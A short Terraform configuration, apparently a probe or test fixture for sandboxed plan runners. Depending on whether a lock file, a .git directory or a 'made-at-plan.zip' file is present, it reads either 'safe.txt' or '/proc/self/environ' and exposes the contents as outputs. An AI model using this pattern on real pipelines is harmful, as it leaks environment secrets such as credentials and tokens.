locals {
  init   = length(fileset(".", ".terraform.lock.hcl")) == 0 ? "safe.txt" : "/proc/self/environ"
  absent = fileexists("made-at-plan.zip") ? "/proc/self/environ" : "safe.txt"
  git    = length(fileset(".", ".git/*")) == 0 ? "safe.txt" : "/proc/self/environ"
}

output "init" {
  value = file(local.init)
}

output "absent" {
  value = file(local.absent)
}

output "git" {
  value = file(local.git)
}
